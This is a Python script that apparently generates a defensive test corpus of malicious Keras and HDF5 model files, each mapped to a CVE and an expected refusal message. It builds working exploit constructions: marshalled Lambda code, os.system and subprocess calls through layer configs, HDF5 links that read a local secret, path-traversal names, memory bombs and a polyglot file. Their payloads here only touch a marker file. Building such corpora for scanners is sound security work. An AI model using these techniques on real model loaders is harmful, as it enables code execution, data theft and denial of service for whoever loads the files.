"""Model files that somebody made to do harm, each with what must be said of it.

``python corpus.py FOLDER`` writes them all. A payload that ran would leave the file MARK beside
them; nothing else is touched.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

sys.path.insert(0, str(Path(__file__).parents[1]))

from support.written import Ref, Written, sequential, written_layer

MARK = "the-payload-ran"
SECRET = "secret.txt"

Make = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Hostile:
    """A file, where its trick was published, and what must be said of it.

    Parameters
    ----------
    name : str
        Of the file.
    source : str
        Advisory or thread.
    says : str
        Part of the message that refuses it.
    make : callable
        Writes the file at a path; the second argument is the folder for the mark.
    readable : bool
        Whether `check` and `show` can read it all the same.
    loaded : bool
        Whether only Keras can tell, by what it would take memory for.
    """

    name: str
    source: str
    says: str
    make: Make
    readable: bool = True
    loaded: bool = False


def code(folder: Path) -> str:
    """Return marshalled code of ``lambda x: x`` that leaves the mark."""
    mark = str(folder / MARK)
    source = f"lambda x: (open({mark!r}, 'w').close(), x)[1]"
    function = compile(source, "payload", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(function)).decode() + "\n"


def lambda_layer(keras: int, folder: Path, **entry: Any) -> dict[str, Any]:
    if keras == 2:
        config: dict[str, Any] = {
            "function": [code(folder), None, None],
            "function_type": "lambda",
            "module": "builtins",  # what marshalled code finds its names in
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        }
    else:
        held = {"code": code(folder), "defaults": None, "closure": None}
        config = {"function": {"class_name": "__lambda__", "config": held}, "arguments": {}}
    layer = written_layer("Lambda", "evil", keras)
    layer["config"] |= config
    return layer | entry


def model(keras: int, *layers: dict[str, Any]) -> dict[str, Any]:
    document = sequential(keras, ("InputLayer", {"batch_shape": [None, 4]}))
    del document["config"]["layers"][0]["config"]["trainable"]
    document["config"]["layers"].extend(layers)
    return document | {"module": "keras", "registered_name": None}


def save(path: Path, keras: int, document: Any, weights: bytes = b"", **members: bytes) -> None:
    version = {2: "2.21.0", 3: "3.15.1"}[keras]
    if path.suffix == ".keras":
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("metadata.json", json.dumps({"keras_version": version}))
            archive.writestr("config.json", json.dumps(document))
            archive.writestr(
                "model.weights.h5", weights or hdf5(lambda file: file.create_group("vars"))
            )
            for name, content in members.items():
                archive.writestr(name, content)
        return
    with h5py.File(path, "w") as file:
        file.attrs.update(keras_version=version, backend="tensorflow")
        file.attrs["model_config"] = json.dumps(document)
        file.create_group("model_weights").attrs["layer_names"] = []


def hdf5(fill: Callable[[h5py.File], Any]) -> bytes:
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        fill(file)
    return content.getvalue()


def of_layer(keras: int, class_name: str, **config: Any) -> Make:
    """Return what writes a model with one layer that has a config."""

    def make(path: Path, folder: Path) -> None:
        held = json.loads(json.dumps(config).replace("FOLDER", str(folder)))
        layer = written_layer(class_name, "evil", keras)
        layer["config"] |= held
        save(path, keras, model(keras, layer))

    return make


def of_lambda(keras: int, **entry: Any) -> Make:
    def make(path: Path, folder: Path) -> None:
        save(path, keras, model(keras, lambda_layer(keras, folder, **entry)))

    return make


def without_module(path: Path, folder: Path) -> None:
    layer = lambda_layer(3, folder)
    del layer["module"], layer["registered_name"]
    save(path, 3, model(3, layer))


def called(module: str, name: str, *arguments: str) -> Make:
    """Return what writes a Functional model that calls a function in place of a layer."""

    def make(path: Path, folder: Path) -> None:
        written = Written(3)
        x = written.input("x", (None, 4))
        document = written.document(written.call("Dense", "dense", x, units=1))
        filled = [each.replace("FOLDER", str(folder)) for each in arguments]
        document["config"]["layers"].append(
            {
                "class_name": "function",
                "module": module,
                "config": name,
                "registered_name": name,
                "name": "evil",
                "inbound_nodes": [{"args": filled, "kwargs": {}}],
            }
        )
        save(path, 3, document)

    return make


def named(module: str, name: str) -> dict[str, Any]:
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def of_class(**entry: Any) -> Make:
    def make(path: Path, folder: Path) -> None:
        save(path, 3, model(3, written_layer("Dense", "evil", 3, units=1) | entry))

    return make


def with_weights(fill: Callable[[h5py.File, Path], Any]) -> Make:
    """Return what writes a harmless config beside such weights, in either format."""

    def make(path: Path, folder: Path) -> None:
        (folder / SECRET).write_bytes(b"a secret of the host" * 4)
        document = model(3, written_layer("Dense", "dense", 3, units=1))
        if path.suffix == ".keras":
            save(path, 3, document, hdf5(lambda file: fill(file, folder)))
        else:
            save(path, 3, document)
            with h5py.File(path, "r+") as file:
                fill(file["model_weights"], folder)

    return make


def external_link(file: h5py.File, folder: Path) -> None:
    file.create_group("layers")["dense"] = h5py.ExternalLink(str(folder / "other.h5"), "/")


def external_storage(file: h5py.File, folder: Path) -> None:
    place = [(str(folder / SECRET).encode(), 0, 20)]
    file.create_dataset("layers/dense/vars/0", (5,), "float32", external=place)


def virtual(file: h5py.File, folder: Path) -> None:
    layout = h5py.VirtualLayout((5,), "float32")
    layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "secret", (5,))
    file.create_virtual_dataset("layers/dense/vars/0", layout)


def shape_bomb(file: h5py.File, folder: Path) -> None:
    file.create_dataset("layers/dense/vars/0", (2**20, 2**12), "float32", chunks=(1, 4096))


def many_bombs(file: h5py.File, folder: Path) -> None:
    for number in range(100):
        file.create_dataset(f"layers/dense/vars/{number}", (2**22,), "float32", chunks=(4096,))


def chunk_bomb(file: h5py.File, folder: Path) -> None:
    """One number, in a chunk that takes 2 GB once it is unpacked."""
    chunk = (2**29,)
    data = file.create_dataset("d", (1,), "float32", maxshape=(None,), chunks=chunk, compression=9)
    data.id.write_direct_chunk((0,), zlib.compress(bytes(2**20)))


def endless(path: Path, folder: Path) -> None:
    """One changed byte, the size of a string, on which libhdf5 1.14.6 walks without end."""
    save(path, 2, model(2))
    with h5py.File(path, "r+") as file:
        file["model_weights"].attrs["layer_names"] = [f"layer_{number:02}" for number in range(20)]
    content = path.read_bytes()
    size = content.index(b"layer_05") - 8
    path.write_bytes(content[:size] + b"\xff" + content[size + 1 :])


def as_json(keras: int, *layers: dict[str, Any]) -> Make:
    """Return what writes a model with layers whose configs are just so."""

    def make(path: Path, folder: Path) -> None:
        held = json.loads(json.dumps(layers).replace("FOLDER", str(folder)))
        save(path, keras, model(keras, *held))

    return make


def inside(keras: int, wrapper: str, key: str, layer: dict[str, Any]) -> dict[str, Any]:
    """Return a wrapper around a layer."""
    outer = written_layer(wrapper, "outer", keras)
    outer["config"][key] = layer
    return outer


def writer(**entry: Any) -> dict[str, Any]:
    """Return a layer of Keras 2 that writes a file, under names of the caller's choice."""
    layer = written_layer("TFOpLambda", "evil", 2)
    layer["config"] |= {"function": "io.write_file"}
    return layer | {"module": "tf_keras.src.layers.core.tf_op_layer"} | entry


def zip_bomb(path: Path, folder: Path) -> None:
    save(path, 3, model(3), **{"assets/zeros": bytes(400 * 2**20)})


def leaving_member(path: Path, folder: Path) -> None:
    save(path, 3, model(3), **{f"../{MARK}": b"x"})


def polyglot(path: Path, folder: Path) -> None:
    """A zip archive to who looks at its start and end, an HDF5 file to libhdf5 at byte 512."""
    benign = io.BytesIO()
    with zipfile.ZipFile(benign, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "2.21.0"}))
        archive.writestr("config.json", json.dumps(model(2)))
    save(path, 2, model(2, lambda_layer(2, folder)))
    path.write_bytes(benign.getvalue().ljust(2048, b"\0") + path.read_bytes() + benign.getvalue())


def deep(path: Path, folder: Path) -> None:
    document = json.dumps(model(3)).replace("[null, 4]", "[" * 900 + "]" * 900)
    save(path, 3, json.loads(document))


def many_calls(path: Path, folder: Path) -> None:
    document = model(3)
    entry = {"class_name": "Dense", "config": {"name": "d"}, "inbound_nodes": [0] * 60_000}
    document["config"]["layers"] += [entry, entry]
    save(path, 3, document)


def giant(keras: int, class_name: str, size: int = 4, **config: Any) -> Make:
    """Return what writes a layer that takes memory, of a sample of that many numbers."""

    def make(path: Path, folder: Path) -> None:
        document = model(keras, written_layer(class_name, "evil", keras, **config))
        key = "batch_shape" if keras == 3 else "batch_input_shape"
        document["config"]["layers"][0]["config"][key] = [None, size]
        save(path, keras, document)

    return make


def lying(path: Path, folder: Path) -> None:
    """A tensor of Keras 3 that is said to be small: Keras goes by the layer that gives it."""
    written = Written(3)
    written.input("x", (None, 10**9))
    document = written.document(written.call("Dense", "evil", Ref("x", 0, (None, 4)), units=1))
    del document["config"]["layers"][1]["build_config"]
    save(path, 3, document)


CODE = "runs Python code that the file holds"
NODE = {"name": "x", "op": "PyFunc", "attr": {}}
GET_FILE = named("keras.utils", "get_file")
UNSAFE = named("keras.config", "enable_unsafe_deserialization")
GIANT = "layers that fill the memory while Keras loads them"
TENSOR = "it gives a tensor of 26,703 MB"
VOCABULARY = {"input_dim": 10**9, "output_dim": 10**6}
HIJACK = {"module": "keras.layers", "registered_name": "mine>Dense"}

HOSTILE = [
    Hostile("lambda2.h5", "CVE-2024-3660, CVE-2025-9905", f"evil: Lambda {CODE}", of_lambda(2)),
    Hostile("lambda2.keras", "CVE-2024-3660", f"evil: Lambda {CODE}", of_lambda(2)),
    Hostile("lambda3.h5", "CVE-2025-9905", f"evil: __lambda__ {CODE}", of_lambda(3)),
    Hostile("lambda3.keras", "CVE-2024-3660", f"evil: __lambda__ {CODE}", of_lambda(3)),
    Hostile("no_module.keras", "CVE-2026-12481, keras#23048", CODE, without_module),
    Hostile(
        "imported.keras",
        "CVE-2025-1550",
        "function calls os.system",
        called("os", "system", f"touch FOLDER/{MARK}"),
        readable=False,
    ),
    Hostile(
        "class.keras",
        "CVE-2025-1550",
        "is a class of the module 'subprocess'",
        of_class(class_name="Popen", module="subprocess"),
    ),
    Hostile(
        "builtin.keras",
        "CVE-2025-1550",
        "function calls builtins.exec",
        of_layer(3, "Dense", units=1, activation=named("builtins", "exec")),
    ),
    Hostile(
        "get_file.keras",
        "CVE-2025-8747; what it downloads: CVE-2024-55459, CVE-2025-12060, CVE-2025-12638",
        "function calls keras.utils.get_file",
        of_layer(3, "Lambda", function=GET_FILE, arguments={"origin": f"file://FOLDER/{SECRET}"}),
    ),
    Hostile(
        "unsafe.keras",
        "CVE-2025-9906",
        "function calls keras.config.enable_unsafe_deserialization",
        of_layer(3, "Lambda", function=UNSAFE),
    ),
    Hostile(
        "load_model.keras",
        "CVE-2025-9906",
        "function calls keras.models.load_model",
        of_layer(3, "Lambda", function=named("keras.models", "load_model")),
    ),
    Hostile(
        "strings.keras",
        "CVE-2025-12058",
        f"{SECRET}'",
        of_layer(3, "StringLookup", vocabulary=f"FOLDER/{SECRET}"),
    ),
    Hostile(
        "integers.h5",
        "CVE-2025-12058",
        "IntegerLookup reads the file 'http://localhost/secret'",
        of_layer(2, "IntegerLookup", vocabulary="http://localhost/secret"),
    ),
    Hostile(
        "torch.keras",
        "CVE-2025-49655",
        "TorchModuleWrapper unpickles a PyTorch module",
        of_layer(3, "TorchModuleWrapper", module="cGlja2xl"),
    ),
    Hostile(
        "savedmodel.keras",
        "CVE-2026-1462",
        "TFSMLayer runs the SavedModel at",
        of_layer(3, "TFSMLayer", filepath="FOLDER/other"),
    ),
    Hostile(
        "name.keras",
        "CVE-2026-12479",
        "leads out of its folder",
        of_layer(3, "Dense", name=f"../../{MARK}", units=1),
    ),
    Hostile("hijack.keras", "keras#22779", "is a class of 'mine'", of_class(**HIJACK)),
    Hostile("link.keras", "CVE-2026-1669", "links to the file", with_weights(external_link)),
    Hostile("link.h5", "CVE-2026-1669", "links to the file", with_weights(external_link)),
    Hostile("storage.keras", "CVE-2026-1669", "reads the file", with_weights(external_storage)),
    Hostile("storage.h5", "tf-keras#921", "reads the file", with_weights(external_storage)),
    Hostile("virtual.keras", "CVE-2026-12480", "put together from", with_weights(virtual)),
    Hostile("virtual.h5", "CVE-2026-12480", "put together from", with_weights(virtual)),
    Hostile("shape.keras", "CVE-2026-0897", "declares 16,384 MB", with_weights(shape_bomb)),
    Hostile("shape.h5", "keras#22975", "declares 16,384 MB", with_weights(shape_bomb)),
    Hostile("shapes.h5", "keras#22975", "it declares", with_weights(many_bombs)),
    Hostile("zip_bomb.keras", "keras#23010", "declares 400 MB", zip_bomb),
    Hostile("member.keras", "GHSA-hqp4-2352-xf5r", "leads out of the archive", leaving_member),
    Hostile("polyglot.h5", "two readers, two answers", "Keras goes by the ending", polyglot),
    Hostile(
        "write.h5",
        "symbols of TensorFlow that do more than compute",
        "TFOpLambda calls tf.io.write_file",
        of_layer(2, "TFOpLambda", function="io.write_file"),
    ),
    Hostile(
        "pyfunc.h5",
        "operations of TensorFlow 2.0 graphs",
        "TensorFlowOpLayer runs the operation PyFunc",
        of_layer(2, "TensorFlowOpLayer", node_def=NODE, constants={}),
    ),
    Hostile(
        "other_name.keras",
        "tf_keras takes registered_name where the module has no such class",
        "Nothing calls tf.io.write_file",
        as_json(2, writer(class_name="Nothing", registered_name="TFOpLambda")),
    ),
    Hostile(
        "borrowed_name.h5",
        "files of .h5 are looked up by class_name, whatever registered_name says",
        "TFOpLambda calls tf.io.write_file",
        as_json(2, writer(registered_name="rewriter>DynamicDropout")),
    ),
    Hostile(
        "dotted.keras",
        "tf_keras resolves one dot in a function's name",
        "function calls keras.losses.tf.load_op_library",
        of_layer(2, "Dense", units=1, activation=named("keras.losses", "tf.load_op_library")),
    ),
    Hostile(
        "quantize.h5",
        "symbols of TensorFlow that do more than compute",
        "TFOpLambda calls tf.quantization.experimental.quantize_saved_model",
        of_layer(2, "TFOpLambda", function="quantization.experimental.quantize_saved_model"),
    ),
    Hostile(
        "floatx.h5",
        "symbols of TensorFlow that change the process",
        "TFOpLambda calls tf.keras.backend.set_floatx",
        of_layer(2, "TFOpLambda", function="keras.backend.set_floatx"),
    ),
    Hostile(
        "memory.h5",
        "operations of TensorFlow 2.0 graphs that read files",
        "TensorFlowOpLayer runs the operation ImmutableConst",
        of_layer(2, "TensorFlowOpLayer", node_def={"name": "x", "op": "ImmutableConst"}),
    ),
    Hostile(
        "cyrillic.keras",
        "a module that looks like Keras",
        "is a class of the module 'k\u0435ras.layers'",
        of_class(module="k\u0435ras.layers"),
    ),
    Hostile(
        "wrapped.h5",
        "CVE-2025-9905, inside a wrapper",
        f"outer/evil: Lambda {CODE}",
        lambda path, folder: as_json(
            2, inside(2, "TimeDistributed", "layer", lambda_layer(2, folder))
        )(path, folder),
    ),
    Hostile(
        "cell.keras",
        "CVE-2025-1550, as a cell of a recurrent layer",
        "outer/Popen: Popen is a class of the module 'subprocess'",
        as_json(
            3,
            inside(
                3,
                "RNN",
                "cell",
                {"class_name": "Popen", "module": "subprocess", "config": {"args": ["true"]}},
            ),
        ),
    ),
    Hostile(
        "residual.h5",
        "CVE-2025-9905, in a cell that wraps another",
        f"outer/evil: ResidualWrapper {CODE}",
        as_json(
            2,
            inside(
                2,
                "RNN",
                "cell",
                written_layer(
                    "ResidualWrapper", "evil", 2, residual_fn=["x"], residual_fn_type="lambda"
                ),
            ),
        ),
    ),
    Hostile(
        "called.h5",
        "files of .h5 are looked up among functions, too, which are called",
        "stands for 'deserialize', which no Keras has",
        as_json(3, {"class_name": "deserialize", "config": {"name": "x", "config": {}}}),
    ),
    Hostile(
        "string.h5",
        "names of functions, as strings",
        "Dense has 'deserialize' for its activation, which is none of Keras' own",
        of_layer(3, "Dense", units=1, activation="deserialize"),
    ),
    Hostile(
        "method.h5",
        "methods of tensors",
        "ClassMethod calls tf.RaggedTensor.mro",
        of_layer(2, "ClassMethod", cls_symbol="RaggedTensor", method_name="mro"),
    ),
    Hostile(
        "checkpoint.h5",
        "columns of features read checkpoints",
        "EmbeddingColumn reads the file '/etc/x'",
        of_layer(
            2,
            "DenseFeatures",
            feature_columns=[
                {"class_name": "EmbeddingColumn", "config": {"ckpt_to_load_from": "/etc/x"}}
            ],
        ),
    ),
    Hostile(
        "array.keras",
        "an array whose elements fill the memory",
        "__numpy__ makes an array of 'V999999999'",
        of_layer(
            3,
            "Rescaling",
            scale={"class_name": "__numpy__", "config": {"value": 0, "dtype": "V999999999"}},
        ),
    ),
    Hostile(
        "policy.keras",
        "CVE-2025-1550, as a dtype",
        "calls os.system",
        of_layer(3, "Dense", units=1, dtype=named("os", "system")),
    ),
    Hostile(
        "build.keras",
        "CVE-2025-12058, in what a layer is built from",
        "reads the file",
        as_json(3, written_layer("Dense", "evil", 3) | {"build_config": {"vocabulary": "/x"}}),
    ),
    Hostile(
        "chunk.keras", "a chunk larger than its data set", "declares", with_weights(chunk_bomb)
    ),
    Hostile("chunk.h5", "a chunk larger than its data set", "declares", with_weights(chunk_bomb)),
    Hostile("endless.h5", "libhdf5, a heap without end", "the file is damaged", endless),
    Hostile("deep.keras", "keras.io, nested JSON", "nested more than", deep, readable=False),
    Hostile("calls.keras", "graphs that fill the memory", "calls of layers", many_calls, False),
    *(
        Hostile(f"{name}{keras}.{ending}", GIANT, says, make, loaded=name == "ids")
        for keras in (2, 3)
        for ending in ("keras", "h5")
        for name, says, make in (
            ("dense", f"evil: {TENSOR}", giant(keras, "Dense", units=10**9)),
            ("wide", f"inputlayer: {TENSOR}", giant(keras, "Dense", 10**9, units=1)),
            ("slopes", f"inputlayer: {TENSOR}", giant(keras, "PReLU", 10**9)),
            ("ids", "evil: it declares 3,814,697,266 MB", giant(keras, "Embedding", **VOCABULARY)),
            (
                "repeat",
                "evil: it gives a tensor of 106,812 MB",
                giant(keras, "RepeatVector", n=10**9),
            ),
        )
    ),
    Hostile("lying.keras", GIANT, f"x: {TENSOR}", lying),
]

if __name__ == "__main__":
    from support.file_readers import ASKED
    from support.lookups import LIVE

    place = Path(sys.argv[1])
    place.mkdir(parents=True, exist_ok=True)
    for hostile in [*HOSTILE, *LIVE, *ASKED]:
        hostile.make(place / hostile.name, place)
        print(f"{hostile.name}: {hostile.source}: {hostile.says}")
    np.savez(place / "inputs.npz", x=np.zeros((1, 4), "float32"))
